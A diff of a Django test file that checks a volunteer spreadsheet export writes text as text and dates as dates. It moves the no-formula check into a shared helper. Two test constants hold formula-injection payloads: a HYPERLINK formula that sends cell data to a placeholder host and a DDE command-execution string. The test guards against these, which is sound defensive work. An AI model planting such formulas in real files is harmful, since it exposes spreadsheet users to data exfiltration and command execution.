@@ -2,8 +2,6 @@
 
 import datetime
 import io
-import re
-import zipfile
 
 import pytest
 from django.urls import reverse
@@ -11,6 +9,7 @@ from openpyxl import load_workbook
 
 from committees.models import Layer, Volunteer
 from tests.factories import PersonFactory, UserFactory
+from tests.xlsx import assert_no_formula
 
 HYPERLINK = '=HYPERLINK("http://x"&A1,"点我")'
 DDE = "=cmd|' /C calc'!A0"
@@ -43,9 +42,7 @@ def test_the_volunteer_export_writes_text_as_text_and_dates_as_dates(client, sup
         | {f"volunteerresource_{f}": "on" for f in ("committee", "person", "layer", "joined_on", "exited_on")},
     )
     assert response.status_code == 200, response.content[:500]
-    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
-        xml = archive.read("xl/worksheets/sheet1.xml").decode()
-    assert not re.search(r"<(\w+:)?f[ >]", xml)
+    assert_no_formula(response.content)
     ws = load_workbook(io.BytesIO(response.content)).active
     row = {header.value: cell for header, cell in zip(ws[1], ws[2], strict=True)}
     assert (row["exit_reason"].value, row["exit_reason"].data_type) == (DDE, "s")
